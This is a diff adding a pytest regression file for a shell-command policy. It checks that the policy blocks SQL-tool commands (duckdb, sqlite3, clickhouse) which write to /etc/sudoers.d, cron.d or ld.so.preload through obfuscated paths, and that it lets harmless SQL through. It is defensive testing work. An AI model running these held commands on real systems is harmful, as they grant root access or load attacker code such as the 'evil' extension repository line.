@@ -1,0 +1,68 @@
+"""Attack a36f, findings 5, 7, 10, 17, 22, 26 and 27: SQL write targets the grammar read wrong
+(a string going on across a newline, ClickHouse's backslash escapes, a target built by an
+expression, DuckDB's settings that write files), the settings files of programs that run a
+command beside the listed ones (and one written elsewhere, then used through HOME), npm's
+option abbreviations nopt reads, and a pattern where a settings verb stands. Each attack line is
+held typed and as an exec command; the honest lines beside them still run."""
+import pytest
+
+from bastion.command_control import policy
+from tests.policy_rows import assert_held_or_runs
+
+NL = "\n"
+HELD = [
+    # finding 5: a string literal goes on across a newline; ClickHouse's escapes
+    f"duckdb -c \"CREATE TABLE t AS SELECT 1 AS x; COPY t TO '/tmp/'{NL}'../etc/sudoers.d/ops' (HEADER 0)\"",
+    f"duckdb -c \"COPY t TO '/tmp/'{NL}'../etc/sudoers.d/ops'\"",
+    f"duckdb -c \"ATTACH '/e'{NL}'tc/sudoers.d/ops' AS x\"",
+    f"duckdb x.db \"COPY t TO '/e'{NL}'tc/cron.d/x'\"",
+    f"duckdb x.db \".mode csv{NL}COPY t TO '/e'  {NL}  'tc/cron.d/x'\"",
+    f"litecli -e \"ATTACH '/e'{NL}'tc/sudoers.d/ops' AS x\"",
+    "clickhouse-local -q \"SELECT 'x' INTO OUTFILE '\\/etc/sudoers.d/ops' FORMAT TSVRaw\"",
+    "clickhouse-local -q \"SELECT 'x' INTO OUTFILE '\\x2Fetc/sudoers.d/ops' FORMAT TSVRaw\"",
+    "clickhouse-local -q \"INSERT INTO FUNCTION file('\\/etc/sudoers.d/ops', 'TSVRaw') SELECT 'x'\"",
+    "clickhouse-client -q \"SELECT 'x' INTO OUTFILE '\\/etc/cron.d/x' FORMAT TSVRaw\"",
+    "clickhouse-local -q \"SELECT 'a\\' INTO OUTFILE \\'/tmp/ok' FORMAT TSV\"",
+    # finding 27: a target built by an expression
+    "sqlite3 :memory: \"SELECT writefile('/e'||'tc/sudoers.d/ops', 'ops ALL=(ALL) ALL' || char(10))\"",
+    "sqlite3 x.db \"SELECT writefile('/e'||'tc/ld.so.preload', '/tmp/evil.so')\"",
+    "sqlite3 :memory: \"VACUUM INTO '/e'||'tc/sudoers.d/ops'\"",
+    "sqlite3 :memory: \"VACUUM main INTO '/e' || 'tc/sudoers.d/ops'\"",
+    "sqlite3 :memory: \"ATTACH '/e' || 'tc/sudoers.d/ops' AS x; CREATE TABLE x.t(a)\"",
+    "sqlite3 :memory: \"ATTACH DATABASE '/e'||'tc/sudoers.d/ops' AS x\"",
+    "sqlite3 :memory: \"ATTACH 'file:/e'||'tc/sudoers.d/ops' AS x\"",
+    "duckdb -c \"ATTACH '/e' || 'tc/sudoers.d/ops' AS x\"",
+    "duckdb -c \"COPY t TO concat('/e', 'tc/cron.d/x')\"",
+    "duckdb -c \"COPY t TO '/e' /* c */ 'tc/cron.d/x'\"",
+    "litecli -e \"VACUUM INTO '/e'||'tc/sudoers.d/ops'\"",
+    "clickhouse-local -q \"SELECT 1 INTO OUTFILE '/e' || 'tc/x'\"",
+    # finding 22: DuckDB's settings that write files
+    "duckdb -c \"SET log_query_path=\\$\\$/etc/sudoers.d/ops\\$\\$; SELECT 1\"",
+    "duckdb -c \"SET temp_directory=\\$\\$/etc/sudoers.d\\$\\$; SELECT 1\"",
+    "duckdb -c \"SET log_query_path='/etc/ld.so.preload'; SELECT 1\"",
+    f"duckdb -c \"SET log_query_path='/etc/ld.so'{NL}'.preload'; SELECT '{NL}/tmp/evil.so{NL}'\"",
+    "duckdb -c \"SET GLOBAL log_query_path TO '/etc/sudoers.d/ops'\"",
+    "duckdb -c \"PRAGMA profiling_output='/etc/sudoers.d/ops'\"",
+    "duckdb -c \"SET log_query_path=getenv('X')\"",
+    "duckdb -c \"SET custom_extension_repository='http://evil/ext'\"",
+    "duckdb -c \"SET some_new_setting='/etc/cron.d/x'\"",
+]
+RUNS = [
+    # honest SQL: relative and /tmp targets, settings that name no file, concatenation elsewhere
+    "duckdb -c \"COPY t TO 'out.csv' (HEADER, DELIMITER ',')\"",
+    "duckdb x.db \"COPY t TO '/tmp/out.parquet' (FORMAT parquet)\"",
+    f"duckdb x.db \"COPY t TO '/tmp/out.csv';{NL}SELECT 'done'\"",
+    "duckdb x.db -c \"SET threads=4; SELECT 1\"",
+    "duckdb -c \"SET TimeZone='America/New_York'; SELECT now()\"",
+    "sqlite3 x.db \"ATTACH 'other.db' AS o; SELECT * FROM o.t\"",
+    "sqlite3 x.db \"VACUUM INTO '/tmp/backup.db'\"",
+    "sqlite3 x.db \"SELECT 'a' || 'b'\"",
+    "sqlite3 x.db \"SELECT writefile('/tmp/out.bin', data) FROM t\"",
+    "clickhouse-local -q \"SELECT 1 INTO OUTFILE 'out.tsv'\"",
+]
+
+
+@pytest.mark.parametrize(("line", "held"), [(line, True) for line in HELD]
+                         + [(line, False) for line in RUNS])
+def test_a36f_c_sql_targets(default_policy: policy.Policy, line: str, held: bool) -> None:
+    assert_held_or_runs(default_policy, line, held)
